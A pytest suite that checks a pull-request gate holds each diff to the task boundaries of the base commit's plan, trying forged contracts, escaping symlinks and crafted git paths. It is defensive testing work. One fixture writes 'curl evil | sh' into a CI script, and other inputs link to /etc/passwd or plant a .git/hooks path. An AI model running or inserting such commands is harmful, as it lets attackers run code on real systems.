"""check mode: a pull request's diff held to the plan of its base commit (PRODUCT.md §9), in
real git repositories, driven through entrypoint.py with a real pull_request payload.

Each test is one way a pull request could try to get round the gate (or one way a careless
one could crash it); the plan is always read from the base, never from the pull request."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.runner import ROOT, RunnerResult, issue_event, run_action, webhook

IDENTITY = ("-c", "user.name=t", "-c", "user.email=t@e")


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(repo), *IDENTITY, *args], check=True, capture_output=True, text=True
    )
    return done.stdout


def _issue(number: int) -> dict:
    payload = issue_event("opened", number, (ROOT / "examples" / "issue-42.md").read_text())
    return payload


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """main holds the example workspace planned for issues 42 and 43 (the same plan twice,
    so every task id is in two contracts)."""
    tmp = tmp_path_factory.mktemp("template")
    workspace = tmp / "workspace"
    shutil.copytree(ROOT / "examples" / "workspace", workspace)
    for number in (42, 43):
        result = run_action(tmp / f"plan-{number}", "issues", _issue(number), workspace=workspace)
        assert result.code == 0, result.stdout
    git(workspace, "init", "-q", "-b", "main")
    git(workspace, "add", "-A")
    git(workspace, "commit", "-qm", "plan")
    return workspace


@pytest.fixture
def repo(tmp_path: Path, template: Path) -> Path:
    """A copy of the template, checked out on a new branch."""
    workspace = tmp_path / "workspace"
    shutil.copytree(template, workspace, symlinks=True)
    git(workspace, "checkout", "-q", "-b", "work")
    return workspace


def commit(repo: Path, files: dict[str, str | bytes]) -> None:
    for name, data in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "change")


def link(repo: Path, name: str, target: str) -> None:
    path = repo / name
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")


def gitlink(repo: Path, name: str) -> None:
    """A submodule entry (a commit id in the tree), as `git submodule add` leaves it."""
    sha = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{sha},{name}")
    git(repo, "commit", "-qm", "submodule")


def check(
    tmp: Path,
    repo: Path,
    branch: str,
    title: str = "",
    body: str = "",
    labels: tuple[str, ...] = (),
) -> RunnerResult:
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["head"]["ref"] = branch
    payload["pull_request"]["base"]["ref"] = "main"
    payload["pull_request"]["base"]["sha"] = git(repo, "rev-parse", "main").strip()
    payload["pull_request"]["head"]["sha"] = git(repo, "rev-parse", "HEAD").strip()
    payload["pull_request"]["title"] = title
    payload["pull_request"]["body"] = body
    payload["pull_request"]["labels"] = [{"name": name} for name in labels]
    return run_action(tmp, "pull_request", payload, workspace=repo, inputs={"mode": "check"})


def findings(result: RunnerResult) -> list[dict]:
    found: list[dict] = json.loads(result.outputs["findings"])
    return found


def rules(result: RunnerResult) -> list[str]:
    return [f["rule"] for f in findings(result)]


def message(result: RunnerResult, rule: str) -> str:
    return next(f["message"] for f in findings(result) if f["rule"] == rule)


PRODUCER = "internal/store/redis/producer.go"  # M1-T1's boundary (250 lines)


def finish_feature_work(repo: Path) -> None:
    """Mark M1-T1..T3 done in main's contract of #42 and start the branch again from it:
    M1-T4 (verification only, docs/evidence/**) is then ready."""
    git(repo, "checkout", "-q", "main")
    contract = json.loads((repo / ".agent" / "planning-output-42.json").read_text())
    for task in contract["roadmap"]["milestones"][0]["tasks"][:3]:
        task["status"] = "done"
    commit(repo, {".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")


# ------------------------------------------------------------------------ passing


def test_in_bounds_task_change_passes(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: "package redis\n" * 20})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 0, result.stdout
    assert rules(result) == []
    assert "task 42/M1-T1" in result.summary


def test_planning_change_touching_only_planning_files_passes(tmp_path: Path, repo: Path) -> None:
    commit(repo, {"IMPLEMENTATION_PLAN.md": "edited\n", "specs/notes.md": "x\n"})
    result = check(tmp_path, repo, "replan")
    assert result.code == 0, result.stdout
    assert rules(result) == []


def test_the_plans_own_pull_request_is_a_planning_change(tmp_path: Path, repo: Path) -> None:
    """What commit: pull-request opens: planning files on planner/<issue>/plan, a branch
    that names no task (without that, 42/plan would be an unknown task)."""
    commit(repo, {"IMPLEMENTATION_PLAN.md": "edited\n", ".agent/planner-fanout-42.json": "{}\n"})
    result = check(tmp_path, repo, "planner/42/plan", title="Plan for #42: Split ingestion")
    assert result.code == 0, result.stdout
    assert rules(result) == []
    assert "no task (a planning change)" in result.summary


# ------------------------------------------------------------------------ naming the task


@pytest.mark.parametrize(
    ("branch", "body", "labels"),
    [
        ("planner/43/M1-T1", "", ()),
        ("feature/43/M1-T1-producer", "", ()),
        ("producer", "Some text.\n\nPlanner-Task: #43/M1-T1\n", ()),
        ("producer", "", ("task:43/M1-T1",)),
    ],
    ids=["planner-branch", "any-ref", "trailer", "label"],
)
def test_a_task_named_with_its_issue_is_held_to_that_contract(
    tmp_path: Path, repo: Path, branch: str, body: str, labels: tuple[str, ...]
) -> None:
    commit(repo, {PRODUCER: "line\n" * 251})
    result = check(tmp_path, repo, branch, body=body, labels=labels)
    assert rules(result) == ["check-diff-scope"]
    assert "Task 43/M1-T1 allows 250 changed lines" in message(result, "check-diff-scope")


def test_a_bare_id_in_two_plans_is_ambiguous(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: "x\n"})
    result = check(tmp_path, repo, "agent/M1-T1-producer", title="Producer (M1-T1)")
    assert result.code == 1
    assert set(rules(result)) == {"check-task-ambiguous"}
    assert "42/M1-T1, 43/M1-T1" in message(result, "check-task-ambiguous")


def test_a_bare_id_that_agrees_with_a_qualified_name_is_fine(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: "x\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1", title="M1-T1: producer")
    assert result.code == 0, result.stdout


def test_two_different_tasks_named_is_an_error(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: "x\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1", labels=("task:42/M1-T3",))
    assert result.code == 1
    assert rules(result) == ["check-task-conflict"]
    assert "42/M1-T1, 42/M1-T3" in message(result, "check-task-conflict")


def test_a_task_not_ready_is_refused_with_the_reason(tmp_path: Path, repo: Path) -> None:
    commit(repo, {"cmd/consumer/main.go": "package main\n"})
    result = check(tmp_path, repo, "planner/42/M1-T2")
    assert result.code == 1
    assert rules(result) == ["check-task-not-ready"]
    assert "depends on M1-T1, not done yet" in message(result, "check-task-not-ready")
    commit(repo, {"sidecar/decoder/frame.go": "package decoder\n"})
    later = check(tmp_path / "m2", repo, "planner/42/M2-T1")
    assert "check-task-not-ready" in rules(later)
    assert "waits on M1" in message(later, "check-task-not-ready")


def test_a_done_task_is_not_ready(tmp_path: Path, repo: Path) -> None:
    git(repo, "checkout", "-q", "main")
    contract_path = repo / ".agent" / "planning-output-42.json"
    contract = json.loads(contract_path.read_text())
    contract["roadmap"]["milestones"][0]["tasks"][0]["status"] = "done"
    commit(repo, {".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")
    commit(repo, {PRODUCER: "x\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-task-not-ready"]
    assert "already done" in message(result, "check-task-not-ready")


def test_verification_work_waits_for_the_feature_work_as_the_plan_holds_it(
    tmp_path: Path, repo: Path
) -> None:
    """Seed rule 7 in the gate: M1-T4 (verification only) is deferred by plan mode while
    M1-T1..T3 are open, so a pull request naming it by hand is refused until they are
    done in the base's plan."""
    commit(repo, {"docs/evidence/run.md": "evidence\n"})
    early = check(tmp_path / "early", repo, "planner/42/M1-T4")
    assert early.code == 1
    assert rules(early) == ["check-task-not-ready"]
    reason = message(early, "check-task-not-ready")
    assert "feature work comes first" in reason and "M1-T1, M1-T2, M1-T3" in reason

    finish_feature_work(repo)
    commit(repo, {"docs/evidence/run.md": "evidence\n"})
    later = check(tmp_path / "later", repo, "planner/42/M1-T4")
    assert later.code == 0, later.stdout
    assert "check-task-not-ready" not in rules(later)


@pytest.mark.parametrize("paths", [["**"], [".github/workflows/**"], ["src/\u0430pi/**"]])
def test_a_task_the_plan_never_hands_out_cannot_be_named_by_hand(
    tmp_path: Path, repo: Path, paths: list[str]
) -> None:
    """The base's contract keeps a task whose boundary plan mode holds back (from an
    issue that asked for it); a pull request naming it gains nothing."""
    git(repo, "checkout", "-q", "main")
    contract_path = repo / ".agent" / "planning-output-42.json"
    contract = json.loads(contract_path.read_text())
    contract["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"] = paths
    commit(repo, {".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")
    commit(repo, {".github/workflows/ci.yml": "on: push\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 1
    assert "check-task-not-ready" in rules(result)
    assert "never handed out" in message(result, "check-task-not-ready")


# ------------------------------------------------------------------------ the plan is the base's


def test_widening_its_own_contract_does_not_widen_the_check(tmp_path: Path, repo: Path) -> None:
    contract_path = repo / ".agent" / "planning-output-42.json"
    contract = json.loads(contract_path.read_text())
    task = contract["roadmap"]["milestones"][0]["tasks"][0]
    task["diff_boundary"] = {"paths": ["**"], "max_diff_scope": 100_000}
    commit(
        repo,
        {
            ".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n",
            ".github/workflows/ci.yml": "on: push\n" * 5000,
            PRODUCER: "x\n",
        },
    )
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 1
    assert sorted(rules(result)) == [
        "check-diff-boundary",
        "check-diff-scope",
        "check-planning-files",
    ]
    assert ".github/workflows/ci.yml" in message(result, "check-diff-boundary")
    assert ".agent/planning-output-42.json" in message(result, "check-planning-files")


def test_a_forged_contract_names_no_task_of_the_base(tmp_path: Path, repo: Path) -> None:
    forged = json.loads((repo / ".agent" / "planning-output-42.json").read_text())
    forged["issue"]["number"] = 99
    forged["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"] = ["**"]
    commit(
        repo,
        {".agent/planning-output-99.json": json.dumps(forged), ".github/workflows/x.yml": "on:\n"},
    )
    result = check(tmp_path, repo, "planner/99/M1-T1")
    assert result.code == 1
    assert rules(result) == ["check-task-unknown"]
    assert "99/M1-T1" in message(result, "check-task-unknown")


def test_planning_paths_come_from_the_base_config(tmp_path: Path, repo: Path) -> None:
    """A planning pull request that re-points the plan file at code in its own config
    is still held to the base's planning paths, and a task may not change the config."""
    config = (repo / ".github" / "planner.yml").read_text()
    commit(
        repo,
        {
            ".github/planner.yml": config + "paths: {plan_file: api/server.go}\n",
            "api/server.go": "package api\n",
        },
    )
    result = check(tmp_path, repo, "replan")
    assert result.code == 1
    assert rules(result) == ["seed-1-no-production-code"]
    assert message(result, "seed-1-no-production-code").endswith(
        "it also changes api/server.go. Name the task it works on (branch planner/<issue>/<task>, "
        "a 'Planner-Task: #<issue>/<task>' line in the body or a label task:<issue>/<task>), or "
        "move those changes to a task's pull request."
    )
    task = check(tmp_path / "task", repo, "planner/42/M1-T1")
    assert "check-planning-files" in rules(task)


def test_a_broken_config_in_the_pull_request_does_not_matter(tmp_path: Path, repo: Path) -> None:
    commit(repo, {".github/planner.yml": "defaults: [not, a, mapping\n"})
    result = check(tmp_path, repo, "replan")
    assert result.code == 0, result.stdout


def test_a_task_changing_the_plan_file_is_refused(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: "x\n", "IMPLEMENTATION_PLAN.md": "mine now\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-planning-files"]


# ------------------------------------------------------------------------ what git holds


def test_a_symlink_is_held_by_its_path_and_its_target(tmp_path: Path, repo: Path) -> None:
    link(repo, PRODUCER, "../../../.github/workflows/ci.yml")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-boundary"]
    assert ".github/workflows/ci.yml" in message(result, "check-diff-boundary")


def test_a_symlink_through_another_link_is_followed(tmp_path: Path, repo: Path) -> None:
    link(repo, "internal/store/hop", "../../.github")
    git(repo, "checkout", "-q", "-B", "main")  # the first link is already on the base
    git(repo, "checkout", "-q", "-B", "work")
    link(repo, PRODUCER, "../hop/workflows/ci.yml")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-boundary"]
    assert ".github/workflows/ci.yml" in message(result, "check-diff-boundary")


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../../outside"])
def test_a_symlink_out_of_the_repository_is_an_error(
    tmp_path: Path, repo: Path, target: str
) -> None:
    link(repo, PRODUCER, target)
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-symlink-outside"]
    assert repr(target) in message(result, "check-symlink-outside")


def test_a_symlink_inside_the_boundary_passes(tmp_path: Path, repo: Path) -> None:
    finish_feature_work(repo)
    commit(repo, {"docs/evidence/report.md": "# Evidence\n"})
    link(repo, "docs/evidence/latest.md", "report.md")  # M1-T4: docs/evidence/**
    result = check(tmp_path, repo, "planner/42/M1-T4")
    assert result.code == 0, result.stdout


def test_a_symlink_loop_is_an_error_not_a_hang(tmp_path: Path, repo: Path) -> None:
    finish_feature_work(repo)
    link(repo, "docs/evidence/a", "b")
    link(repo, "docs/evidence/b", "a")
    result = check(tmp_path, repo, "planner/42/M1-T4")
    assert rules(result) == ["check-symlink-outside", "check-symlink-outside"]
    assert "loop" in message(result, "check-symlink-outside")


def test_a_submodule_inside_the_boundary_passes_and_outside_fails(
    tmp_path: Path, repo: Path
) -> None:
    gitlink(repo, PRODUCER)
    inside = check(tmp_path / "in", repo, "planner/42/M1-T1")
    assert inside.code == 0, inside.stdout
    gitlink(repo, "vendor/lib")
    outside = check(tmp_path / "out", repo, "planner/42/M1-T1")
    assert outside.code == 1
    assert rules(outside) == ["check-diff-boundary"]
    assert "vendor/lib" in message(outside, "check-diff-boundary")


def test_glob_characters_in_file_names_are_characters(tmp_path: Path, repo: Path) -> None:
    commit(repo, {"internal/store/redis/*": "x\n", "internal/store/redis/[p]roducer.go": "y\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-boundary"]
    text = message(result, "check-diff-boundary")
    assert "internal/store/redis/*" in text and "[p]roducer.go" in text


def test_a_binary_file_counts_one_line_per_80_bytes(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: b"\0" * 80 * 251})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-scope"]
    text = message(result, "check-diff-scope")
    assert "changes 251" in text and "one line per 80 bytes" in text
    small = tmp_path / "small"
    commit(repo, {PRODUCER: b"\0" * 80 * 200})
    assert check(small, repo, "planner/42/M1-T1").code == 0


def test_missing_base_is_a_clear_error(tmp_path: Path, repo: Path) -> None:
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["base"]["ref"] = "release"
    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
    assert result.code == 2
    assert "fetch-depth: 0" in result.stdout
    assert "Traceback" not in result.stderr


# ------------------------------------------------------------------------ which commit is the base


def forge_own_plan(repo: Path) -> None:
    """The pull request widens M1-T1 in its own contract to a folder of workflow helpers
    and changes one there: judged by its own plan, it would be in bounds."""
    contract_path = repo / ".agent" / "planning-output-42.json"
    forged = json.loads(contract_path.read_text())
    forged["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"] = [".github/ci/**"]
    commit(repo, {".agent/planning-output-42.json": json.dumps(forged, indent=2) + "\n"})
    commit(repo, {".github/ci/deploy.sh": "curl evil | sh\n"})


def test_the_plan_is_read_at_the_base_commit_the_event_names(tmp_path: Path, repo: Path) -> None:
    """A branch named like the base commit (pushed by the pull request's author) does not
    stand in for that commit, and a base named "HEAD" is not the checked-out HEAD: the
    plan is read at the commit the event names as the base."""
    forge_own_plan(repo)
    base_sha = git(repo, "rev-parse", "main").strip()
    git(repo, "branch", base_sha, "work")  # a branch whose name is the base commit's id
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["head"]["ref"] = "planner/42/M1-T1"
    payload["pull_request"]["base"]["ref"] = "HEAD"
    payload["pull_request"]["base"]["sha"] = base_sha
    payload["pull_request"]["head"]["sha"] = git(repo, "rev-parse", "HEAD").strip()
    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
    assert result.code == 1, result.stdout
    assert sorted(rules(result)) == ["check-diff-boundary", "check-planning-files"]
    assert ".github/ci/deploy.sh" in message(result, "check-diff-boundary")


@pytest.mark.parametrize("base", ["HEAD", "work"])
def test_a_base_that_is_the_pull_request_itself_is_refused(
    tmp_path: Path, repo: Path, base: str
) -> None:
    """``base-ref`` set to the pull request's own branch (``${{ github.head_ref }}``) or to
    HEAD would read the plan from the pull request and find nothing changed."""
    forge_own_plan(repo)
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["head"]["ref"] = "planner/42/M1-T1"
    result = run_action(
        tmp_path,
        "pull_request",
        payload,
        workspace=repo,
        inputs={"mode": "check", "base-ref": base},
    )
    assert result.code == 2, result.stdout
    assert "Traceback" not in result.stderr
    assert "base" in result.stdout


# ------------------------------------------------------------------------ paths git refuses


def crafted_commit(repo: Path, path: str, text: str) -> None:
    """Commit a file at ``path`` by writing git's tree objects by hand, the way a pull
    request can push names (``..``, ``.git``) that no checkout would ever write."""

    def run(*args: str, data: str) -> str:
        done = subprocess.run(
            ["git", "-C", str(repo), *args], input=data, capture_output=True, text=True, check=True
        )
        return done.stdout.strip()

    *folders, name = path.split("/")
    sha = run(
        "mktree", data=f"100644 blob {run('hash-object', '-w', '--stdin', data=text)}\t{name}\n"
    )
    for folder in reversed(folders[1:]):
        sha = run("mktree", data=f"040000 tree {sha}\t{folder}\n")
    top = git(repo, "ls-tree", "HEAD").rstrip("\n") + f"\n040000 tree {sha}\t{folders[0]}\n"
    tree = run("mktree", data=top)
    git(
        repo,
        "reset",
        "-q",
        "--soft",
        git(repo, "commit-tree", tree, "-p", "HEAD", "-m", "x").strip(),
    )


@pytest.mark.parametrize(
    "path",
    [
        "docs/evidence/../../.github/workflows/ci.yml",
        "docs/evidence/.git/hooks/post-checkout",
        "docs/evidence/.GIT/config",
        "docs/evidence/./run.md",
    ],
)
def test_a_path_git_would_refuse_is_an_error(tmp_path: Path, repo: Path, path: str) -> None:
    """Inside docs/evidence/** by its spelling, but a name git never checks out: ``..``
    leads out of the boundary, ``.git`` is a repository's own folder."""
    finish_feature_work(repo)
    crafted_commit(repo, path, "on: push\n")
    result = check(tmp_path, repo, "planner/42/M1-T4")
    assert result.code == 1, result.stdout
    assert rules(result) == ["check-path-invalid"]
    assert path in message(result, "check-path-invalid")


@pytest.mark.parametrize("protected_glob", ["/.github/workflows/**", "/.github/*/ci.yml"])
def test_a_protected_file_is_refused_whatever_the_boundary_says(
    tmp_path: Path, repo: Path, protected_glob: str
) -> None:
    """The base's contract gives M1-T1 a second path spelt with a leading or trailing
    slash: it reads as no protected path, yet matches the workflow. The workflow is
    refused by its own path, not by how the boundary is spelt."""
    git(repo, "checkout", "-q", "main")
    contract_path = repo / ".agent" / "planning-output-42.json"
    contract = json.loads(contract_path.read_text())
    contract["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"].append(
        protected_glob
    )
    commit(repo, {".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")
    commit(repo, {PRODUCER: "x\n", ".github/workflows/ci.yml": "on: push\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 1, result.stdout
    assert "check-protected-paths" in rules(result)
    assert ".github/workflows/ci.yml" in message(result, "check-protected-paths")


def test_a_change_packed_into_one_huge_line_counts_by_its_length(
    tmp_path: Path, repo: Path
) -> None:
    """300 KB of code on one line is one line to git; it counts one line per 1,000 bytes,
    so a whole rewrite does not pass a 250-line allowance as a one-line change."""
    commit(repo, {PRODUCER: "package redis; " + "x := 1; " * 37_500 + "\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 1, result.stdout
    assert rules(result) == ["check-diff-scope"]
    assert "changes 301" in message(result, "check-diff-scope")


# ------------------------------------------------------------------------ what a diff can hide


def on_main(repo: Path, files: dict[str, str | bytes]) -> None:
    """Commit files to main and start the work branch again from it."""
    git(repo, "checkout", "-q", "main")
    commit(repo, files)
    git(repo, "checkout", "-q", "-B", "work")


def test_a_rename_into_the_boundary_counts_its_source(tmp_path: Path, repo: Path) -> None:
    on_main(repo, {"cmd/consumer/main.go": "package main\n"})
    (repo / PRODUCER).parent.mkdir(parents=True)
    git(repo, "mv", "cmd/consumer/main.go", PRODUCER)
    git(repo, "commit", "-qm", "move")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-boundary"]
    assert "cmd/consumer/main.go" in message(result, "check-diff-boundary")


def test_a_mode_change_alone_is_a_change(tmp_path: Path, repo: Path) -> None:
    on_main(repo, {"scripts/deploy.sh": "echo deploy\n"})
    (repo / "scripts" / "deploy.sh").chmod(0o755)
    git(repo, "commit", "-qam", "executable")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-boundary"]
    assert "scripts/deploy.sh" in message(result, "check-diff-boundary")


def test_a_file_turned_into_a_link_is_held_by_its_target(tmp_path: Path, repo: Path) -> None:
    on_main(repo, {PRODUCER: "package redis\n"})
    (repo / PRODUCER).unlink()
    link(repo, PRODUCER, "../../../.github/workflows/ci.yml")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-diff-boundary"]
    assert ".github/workflows/ci.yml" in message(result, "check-diff-boundary")


def test_deleting_a_contract_is_changing_the_plan(tmp_path: Path, repo: Path) -> None:
    git(repo, "rm", "-q", ".agent/planning-output-43.json")
    git(repo, "commit", "-qm", "drop a plan")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert "check-planning-files" in rules(result)
    assert ".agent/planning-output-43.json" in message(result, "check-planning-files")


def test_a_merge_counts_what_it_brings_from_elsewhere_not_from_the_base(
    tmp_path: Path, repo: Path
) -> None:
    """Merging the base's newer work in is not the pull request's change; merging another
    branch is."""
    commit(repo, {PRODUCER: "package redis\n"})
    git(repo, "checkout", "-q", "main")
    commit(repo, {".github/workflows/ci.yml": "on: push\n"})
    git(repo, "checkout", "-q", "work")
    git(repo, "merge", "-q", "--no-edit", "main")
    updated = check(tmp_path / "updated", repo, "planner/42/M1-T1")
    assert updated.code == 0, updated.stdout
    git(repo, "checkout", "-q", "-b", "side", "main~1")
    commit(repo, {"api/server.go": "package api\n"})
    git(repo, "checkout", "-q", "work")
    git(repo, "merge", "-q", "--no-edit", "side")
    merged = check(tmp_path / "merged", repo, "planner/42/M1-T1")
    assert rules(merged) == ["check-diff-boundary"]
    assert "api/server.go" in message(merged, "check-diff-boundary")


def test_a_task_an_open_decision_blocks_is_not_ready(tmp_path: Path, repo: Path) -> None:
    git(repo, "checkout", "-q", "main")
    contract_path = repo / ".agent" / "planning-output-42.json"
    contract = json.loads(contract_path.read_text())
    contract["decisions"] = [
        {
            "id": "D1",
            "question": "Redis Streams or a list?",
            "options": ["streams", "list"],
            "impact": "high",
            "blocks": ["M1"],
            "issue": None,
        }
    ]
    commit(repo, {".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")
    commit(repo, {PRODUCER: "package redis\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert rules(result) == ["check-task-not-ready"]
    assert "open decision D1" in message(result, "check-task-not-ready")


def test_a_task_pull_request_that_changes_nothing_is_refused(tmp_path: Path, repo: Path) -> None:
    """Merged, it would mark its task done and hand out the next wave with no work done."""
    git(repo, "commit", "-q", "--allow-empty", "-m", "done, trust me")
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 1, result.stdout
    assert rules(result) == ["check-task-empty"]
    assert "42/M1-T1" in message(result, "check-task-empty")
    planning = check(tmp_path / "planning", repo, "notes")
    assert planning.code == 0, planning.stdout


@pytest.mark.parametrize("base", ["main", ["main"], None])
def test_a_malformed_base_in_the_event_is_a_clear_error(
    tmp_path: Path, repo: Path, base: object
) -> None:
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["base"] = base
    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
    assert result.code == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "base" in result.stdout


def test_the_base_moving_on_before_the_checkout_adds_nothing_to_the_pull_request(
    tmp_path: Path, repo: Path
) -> None:
    """The event names base and head commits; by the time the job checks out the merge
    commit, main has moved on (another task merged): its work is not this pull request's."""
    commit(repo, {PRODUCER: "package redis\n"})
    base_sha = git(repo, "rev-parse", "main").strip()
    head_sha = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", "main")
    commit(repo, {"cmd/consumer/main.go": "package main\n", ".github/workflows/ci.yml": "on:\n"})
    git(repo, "checkout", "-q", "--detach", "main")
    git(repo, "merge", "-q", "--no-edit", head_sha)  # what refs/pull/N/merge now holds
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["head"]["ref"] = "planner/42/M1-T1"
    payload["pull_request"]["head"]["sha"] = head_sha
    payload["pull_request"]["base"]["ref"] = "main"
    payload["pull_request"]["base"]["sha"] = base_sha
    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
    assert result.code == 0, result.stdout
    assert "1 file(s) changed" in result.summary


def test_a_head_commit_that_is_not_fetched_is_a_clear_error(tmp_path: Path, repo: Path) -> None:
    commit(repo, {PRODUCER: "package redis\n"})
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["base"]["sha"] = git(repo, "rev-parse", "main").strip()
    payload["pull_request"]["head"]["sha"] = "f" * 40
    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
    assert result.code == 2, result.stdout
    assert "Traceback" not in result.stderr
    assert "fetch-depth: 0" in result.stdout


def test_a_link_longer_than_any_system_follows_is_an_error(tmp_path: Path, repo: Path) -> None:
    """No system follows a link of more than 4,096 bytes (PATH_MAX); git stores one all the
    same, and resolving its thousands of names one by one would cost time without end."""
    finish_feature_work(repo)
    text = "a/" * 2_500 + "report.md"
    sha = subprocess.run(
        ["git", "-C", str(repo), "hash-object", "-w", "--stdin"],
        input=text,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    git(repo, "update-index", "--add", "--cacheinfo", f"120000,{sha},docs/evidence/latest.md")
    git(repo, "commit", "-qm", "a long link")
    result = check(tmp_path, repo, "planner/42/M1-T4")
    assert result.code == 1, result.stdout
    assert rules(result) == ["check-symlink-outside"]
    assert "docs/evidence/latest.md" in message(result, "check-symlink-outside")


def test_a_base_commit_that_is_not_fetched_is_not_looked_for_among_branches(
    tmp_path: Path, repo: Path
) -> None:
    """The event's base commit is missing here, and the pull request's author pushed a
    branch named like it, holding a widened plan: that branch is no stand-in for it."""
    forge_own_plan(repo)
    missing = "e" * 40
    git(repo, "branch", missing, "work~1")  # main and the widened plan
    payload = webhook("pull_request", "opened")
    payload["pull_request"]["head"]["ref"] = "planner/42/M1-T1"
    payload["pull_request"]["base"]["sha"] = missing
    payload["pull_request"]["head"]["sha"] = git(repo, "rev-parse", "HEAD").strip()
    result = run_action(tmp_path, "pull_request", payload, workspace=repo, inputs={"mode": "check"})
    assert result.code == 2, result.stdout
    assert "fetch-depth: 0" in result.stdout


def test_a_planning_change_filing_a_contract_under_another_number_is_refused(
    tmp_path: Path, repo: Path
) -> None:
    # A copy of #42's contract, with a task widened, filed as issue 10's.
    contract = json.loads((repo / ".agent" / "planning-output-42.json").read_text())
    contract["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"] = ["**"]
    commit(repo, {".agent/planning-output-10.json": json.dumps(contract, indent=2) + "\n"})
    result = check(tmp_path, repo, "docs/plan-tweaks", title="Plan tweaks")
    assert result.code == 1, result.stdout
    assert "contract-issue-mismatch" in rules(result)
    assert "planning-output-10.json" in message(result, "contract-issue-mismatch")


def test_a_forged_contract_on_the_base_judges_nothing_and_is_reported(
    tmp_path: Path, repo: Path
) -> None:
    git(repo, "checkout", "-q", "main")
    contract = json.loads((repo / ".agent" / "planning-output-42.json").read_text())
    contract["roadmap"]["milestones"][0]["tasks"][0]["diff_boundary"]["paths"] = ["**"]
    commit(repo, {".agent/planning-output-10.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")
    commit(repo, {PRODUCER: "package redis\n", "cmd/other/main.go": "package main\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1")
    assert result.code == 1, result.stdout
    # Judged by #42's own contract: the file outside its boundary is named.
    assert "cmd/other/main.go" in message(result, "check-diff-boundary")
    assert "planning-output-10.json" in message(result, "contract-issue-mismatch")


def finish_producer(repo: Path) -> None:
    """Mark M1-T1 done on main, so M1-T2 (cmd/consumer/**) is ready, and branch again."""
    git(repo, "checkout", "-q", "main")
    contract = json.loads((repo / ".agent" / "planning-output-42.json").read_text())
    contract["roadmap"]["milestones"][0]["tasks"][0]["status"] = "done"
    commit(repo, {".agent/planning-output-42.json": json.dumps(contract, indent=2) + "\n"})
    git(repo, "checkout", "-q", "-B", "work")


